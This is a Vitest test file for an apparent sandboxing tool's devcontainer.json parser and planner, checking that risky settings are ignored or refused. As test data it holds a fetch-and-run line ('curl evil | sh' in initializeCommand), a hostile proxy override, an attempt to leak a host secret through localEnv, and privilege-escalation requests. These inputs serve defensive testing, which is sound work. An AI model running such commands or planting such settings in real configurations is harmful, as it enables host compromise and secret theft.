import { describe, expect, it } from 'vitest';
import {
  devcontainerPlan,
  mapImage,
  parseDevcontainer,
  planDevcontainer,
  substitute,
} from '../../src/devcontainer/index.js';
import { AiboxError } from '../../src/shared/index.js';

const opts = {
  localWorkspaceFolder: '/home/dev/proj',
  containerWorkspaceFolder: '/workspace',
  devcontainerId: 'sbx-1',
  sandboxUser: 'agent',
  sandboxUid: 1001,
  packVersions: {
    node: { default: '20', versions: ['20'] },
    python: { default: '3.11', versions: ['3.11'] },
    java: { default: '17', versions: ['17'] },
    maven: { default: '3.8', versions: ['3.8'] },
  },
};
const plan = (text: string) => devcontainerPlan({ file: '.devcontainer/devcontainer.json', text }, opts);

function codeOf(fn: () => unknown): { code: string; details: Record<string, unknown>; message: string } {
  try {
    fn();
  } catch (err) {
    if (err instanceof AiboxError)
      return { code: err.code, details: err.details ?? {}, message: err.message };
    throw err;
  }
  throw new Error('did not throw');
}

describe('devcontainer.json parsing', () => {
  it('accepts comments, trailing commas and unknown keys, each with a warning', () => {
    const p = parseDevcontainer(
      'd.json',
      '{\n  // the tools\n  "name": "x",\n  "madeUp": 1,\n  "forwardPorts": [3000,],\n}\n',
    );
    expect(p.config).toEqual({ name: 'x', madeUp: 1, forwardPorts: [3000] });
    expect(p.warnings).toEqual([
      'd.json:2:3: comments are not JSON (accepted)',
      'd.json:5:24: trailing comma (accepted)',
      'd.json: unknown key "madeUp" ignored',
    ]);
  });

  it('refuses a malformed file with the line and column of the error', () => {
    const e = codeOf(() => parseDevcontainer('d.json', '{\n  "name": "x"\n  "image": "y"\n}'));
    expect(e.code).toBe('DEVCONTAINER_INVALID');
    expect(e.details).toMatchObject({ file: 'd.json', line: 3, column: 3 });
    expect(e.message).toMatch(/^d\.json:3:3: comma expected/);
  });

  it('refuses a top level that is not an object', () => {
    expect(codeOf(() => parseDevcontainer('d.json', '[1]')).code).toBe('DEVCONTAINER_INVALID');
  });
});

describe('the plan', () => {
  it('maps features and known images to packs, matching versions against the registry', () => {
    const p = plan(`{
      "image": "mcr.microsoft.com/devcontainers/typescript-node:1-20-bookworm",
      "features": {
        "ghcr.io/devcontainers/features/python:1": { "version": "3.11.4" },
        "ghcr.io/devcontainers/features/java:1": { "version": "21", "installMaven": "true" },
        "ghcr.io/devcontainers/features/git:1": {},
        "ghcr.io/someone/features/rust:1": {}
      }
    }`);
    expect(p.packs.map((w) => `${w.name}@${w.version ?? ''}`)).toEqual([
      'node@20',
      'python@3.11',
      'java@17',
      'maven@',
    ]);
    expect(p.warnings.some((w) => w.includes('java version 21 is not packaged; using 17'))).toBe(true);
    const status = Object.fromEntries(p.keys.map((k) => [k.key, k.status]));
    expect(status).toMatchObject({
      image: 'mapped',
      'features["ghcr.io/devcontainers/features/git:1"]': 'mapped',
      'features["ghcr.io/someone/features/rust:1"]': 'unsupported',
    });
  });

  it('reports an unknown image and a Dockerfile build as unsupported, with the reason', () => {
    const p = plan('{"image": "ghcr.io/acme/dev:3", "build": {"dockerfile": "Dockerfile"}}');
    expect(p.keys.find((k) => k.key === 'image')).toMatchObject({ status: 'unsupported' });
    expect(p.keys.find((k) => k.key === 'build')?.detail).toMatch(/does not build images/);
    expect(p.packs).toEqual([]);
    expect(mapImage('python:3.11-bullseye').note).toMatch(/not bullseye/);
  });

  it('turns lifecycle commands into argv lists in order, with variables substituted', () => {
    const p = plan(`{
      "onCreateCommand": ["npm", "ci"],
      "postCreateCommand": "echo \${containerWorkspaceFolder} > /tmp/x",
      "postStartCommand": { "a": "echo a", "b": ["echo", "b"], "bad": 3 }
    }`);
    expect(p.postCreate).toEqual([
      { from: 'onCreateCommand', argv: ['npm', 'ci'] },
      { from: 'postCreateCommand', argv: ['/bin/sh', '-c', 'echo /workspace > /tmp/x'] },
    ]);
    expect(p.postStart.map((c) => c.from)).toEqual(['postStartCommand.a', 'postStartCommand.b']);
    expect(p.keys.find((k) => k.key === 'postStartCommand.bad')?.status).toBe('ignored');
  });

  it('never runs initializeCommand (it would run on the host)', () => {
    const p = plan('{"initializeCommand": "curl evil | sh"}');
    expect(p.postCreate).toEqual([]);
    expect(p.keys).toEqual([expect.objectContaining({ key: 'initializeCommand', status: 'ignored' })]);
  });

  it('sets containerEnv then remoteEnv, never from the host environment, never over what aibox sets', () => {
    process.env.AIBOX_TEST_SECRET = 'hunter2';
    const p = plan(`{
      "containerEnv": { "A": "1", "TOKEN": "\${localEnv:AIBOX_TEST_SECRET}", "HTTPS_PROXY": "http://evil:1" },
      "remoteEnv": { "A": "2", "P": "\${containerEnv:PATH}:/x", "D": "\${localEnv:NOPE:dflt}", "GONE": null }
    }`);
    expect(p.env).toEqual({ A: '2', TOKEN: '', D: 'dflt' });
    expect(JSON.stringify(p)).not.toContain('hunter2');
    expect(p.warnings.join('\n')).toMatch(/HTTPS_PROXY ignored: aibox sets HTTPS_PROXY itself/);
  });

  it('refuses bad variable names and oversized environments with DEVCONTAINER_ENV_INVALID', () => {
    expect(codeOf(() => plan('{"containerEnv": {"A-B": "1"}}')).code).toBe('DEVCONTAINER_ENV_INVALID');
    expect(codeOf(() => plan('{"containerEnv": {"A": 1}}')).code).toBe('DEVCONTAINER_ENV_INVALID');
    const many = Object.fromEntries(Array.from({ length: 129 }, (_, i) => [`V${i}`, 'x']));
    expect(codeOf(() => plan(JSON.stringify({ containerEnv: many }))).code).toBe('DEVCONTAINER_ENV_INVALID');
  });

  it('maps remoteUser to the sandbox user, and refuses root or an unknown user', () => {
    expect(plan('{"remoteUser": "vscode"}').keys[0]).toMatchObject({ status: 'mapped' });
    expect(plan('{"remoteUser": "agent"}').keys[0]).toMatchObject({ status: 'honoured' });
    const root = codeOf(() => plan('{"remoteUser": "root"}'));
    expect(root.code).toBe('DEVCONTAINER_REMOTE_USER');
    expect(root.message).toMatch(/root is never available/);
    expect(codeOf(() => plan('{"containerUser": "postgres"}')).code).toBe('DEVCONTAINER_REMOTE_USER');
  });

  it('keeps forwarded ports of the sandbox only, and turns bind mounts into mounts-door requests', () => {
    const p = plan(`{
      "forwardPorts": [3000, "localhost:5432", "db:5432", 70000],
      "mounts": [
        "source=\${localWorkspaceFolder}/../cache,target=/cache,type=bind,readonly",
        { "source": "vol", "target": "/v", "type": "volume" },
        { "source": "relative", "target": "/r", "type": "bind" }
      ]
    }`);
    expect(p.forwardPorts).toEqual([3000, 5432]);
    expect(p.mounts).toEqual([{ source: '/home/dev/proj/../cache', target: '/cache', mode: 'ro' }]);
    expect(p.keys.filter((k) => k.key.startsWith('mounts[')).map((k) => k.status)).toEqual([
      'mapped',
      'unsupported',
      'ignored',
    ]);
  });

  it('ignores privilege requests with a reason, keeping the start', () => {
    const p = planDevcontainer(
      'd.json',
      parseDevcontainer('d.json', '{"privileged": true, "capAdd": ["SYS_ADMIN"], "runArgs": ["--net=host"]}'),
      opts,
    );
    expect(p.keys.map((k) => [k.key, k.status])).toEqual([
      ['runArgs', 'ignored'],
      ['privileged', 'ignored'],
      ['capAdd', 'ignored'],
    ]);
  });

  it('substitutes basename variables and leaves unknown ones with a warning', () => {
    const s = substitute('${localWorkspaceFolderBasename}/${nope}', opts);
    expect(s.value).toBe('proj/${nope}');
    expect(s.warnings).toHaveLength(1);
  });
});
